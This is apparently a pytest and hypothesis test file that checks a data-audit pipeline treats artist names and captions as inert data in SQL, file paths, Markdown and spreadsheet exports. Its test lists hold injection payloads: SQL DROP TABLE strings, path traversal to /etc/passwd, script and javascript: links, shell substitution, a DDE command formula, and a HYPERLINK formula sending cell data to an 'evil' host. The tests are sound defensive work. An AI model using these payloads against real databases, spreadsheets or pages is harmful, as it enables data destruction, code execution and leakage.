"""Hostile names and captions: data in SQL, paths, Markdown and spreadsheets, never code."""

import csv
import io
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from audit_assets.config import KEY, Protocol
from audit_assets.defs.metadata import as_markdown
from audit_assets.roster.artists import read_artists
from audit_assets.roster.captions import _key
from audit_assets.roster.homes import homes
from audit_assets.roster.slugs import slug
from audit_assets.untrusted.spreadsheet import as_csv, neutral, plain
from audit_assets.warehouse.database import publish, table_suffix
from audit_assets.warehouse.store import Warehouse

HOSTILE = [
    "Robert'); DROP TABLE subjects;--",
    '"; COPY subjects TO \'/tmp/x\'; --',
    "../../etc/passwd",
    "..",
    "C:\\Windows\\System32",
    "name\0with nul",
    "=HYPERLINK(\"http://evil/\"&A1,\"click\")",
    "<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "![x](http://evil/pixel.png)",
    "{name} {0.__class__}",
    "$(touch /tmp/x) `touch /tmp/x`",
    "‮ reversed",
    "x" * 5000,
]  # fmt: skip
TEXTS = st.one_of(st.sampled_from(HOSTILE), st.text())


@given(TEXTS)
def test_a_name_as_a_key_is_a_plain_file_name(name: str) -> None:
    key = slug(name)
    assert KEY.fullmatch(key)
    assert Path(key).name == key
    assert (Path("/w") / key).resolve().parent == Path("/w")


@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_a_caption_file_as_a_key_is_a_plain_file_name(path: str) -> None:
    key = _key(path, "*")
    assert "/" not in key
    assert not key.startswith(".")
    assert Warehouse(Path("/w")).path(f"captions/{key}").parent == Path("/w/captions")


@pytest.mark.parametrize("name", HOSTILE)
def test_a_name_leads_out_of_no_folder(tmp_path: Path, name: str) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "references").mkdir()
    (tmp_path / "references" / "ada").mkdir()
    found = homes(tmp_path / "references", {name: [f"../{name}", name]})
    assert [entry.parent for entry, _ in found.strays] == [tmp_path / "references"]
    assert found.own == {}


@pytest.mark.parametrize("table", ["../x", "a/../../x", "/etc/x", "a/../../../etc/cron.d/x"])
def test_a_table_is_never_outside_the_warehouse(tmp_path: Path, table: str) -> None:
    with pytest.raises(ValueError, match="outside the warehouse"):
        Warehouse(tmp_path / "w").path(table)


def test_names_are_values_in_sql(tmp_path: Path) -> None:
    """Through the published file and back, each as it was; the table that one wants to drop is still there."""
    names = [n for n in HOSTILE if "\0" not in n]
    keys = [slug(n) for n in names]
    frame = pd.DataFrame({"name": names, "subject": keys, "kind": "artist", "shares_name_parts": None, "rosters": [[n] for n in names],
                          "mentions": None, "opted_out": False, "retired": False, "locale": "", "peers": ""})  # fmt: skip
    publish(tmp_path / "audit.duckdb", {"subjects": frame}, {"clip'; DROP TABLE subjects; --": 3})
    with duckdb.connect(str(tmp_path / "audit.duckdb"), read_only=True) as connection:
        rows = connection.execute("SELECT name, rosters[1] FROM subjects ORDER BY rowid").fetchall()
    assert rows == [(n, n) for n in names]


@given(st.text())
def test_an_encoders_name_is_a_plain_part_of_a_tables_name(name: str) -> None:
    assert all(c in "abcdefghijklmnopqrstuvwxyz0123456789_" for c in table_suffix(name))


@given(TEXTS)
def test_a_cell_in_the_ui_is_neither_markup_nor_a_link(text: str) -> None:
    """Dagster shows metadata as Markdown: a picture in a name would call out from the browser of whoever looks."""
    lines = as_markdown(pd.DataFrame({"name": [text]})).split("\n")
    assert len(lines) == 3
    assert not set(lines[2].removeprefix("| ").removesuffix(" |").replace("&#", "").replace(";", "")) & set(
        "<>[]()!`*_|\\"
    )


@given(TEXTS)
def test_a_template_takes_a_name_as_it_is(name: str) -> None:
    protocol = Protocol.model_validate({"name": "p", "templates": ["Artwork from {name}"]})
    assert protocol.prompt(0, name) == f"Artwork from {name}"


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''=1", '=cmd|"/c calc"!A0', "-", "="]


@given(st.one_of(st.sampled_from(FORMULAS), st.text(), st.text("='+-@\t\r")))
def test_a_text_is_no_formula_and_is_read_back_equal(text: str) -> None:
    assert not neutral(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain(neutral(text)) == text


@given(st.lists(st.one_of(st.sampled_from(FORMULAS), st.text(st.characters(exclude_categories=["Cs"]))), min_size=1))
def test_no_cell_of_an_exported_table_is_a_formula(names: list[str]) -> None:
    rows = list(csv.reader(io.StringIO(as_csv(pd.DataFrame({"=name": names, "n": range(len(names))})), newline="")))
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    assert [plain(row[0]) for row in rows] == ["=name", *names]


def test_names_that_were_proposed_come_back_as_they_were(tmp_path: Path) -> None:
    """`mined_names.csv` is opened in a spreadsheet, saved as `artists.csv`, and read."""
    names = ["=Ada Brandvold", "-Bo Dahl", "'=Dee", "O'Hara", "+Eve"]
    (tmp_path / "artists.csv").write_text(as_csv(pd.DataFrame({"name": names, "source": "=mined"})), encoding="utf-8")
    table = read_artists(tmp_path / "artists.csv")
    assert table["name"].tolist() == names
    assert set(table["source"]) == {"=mined"}
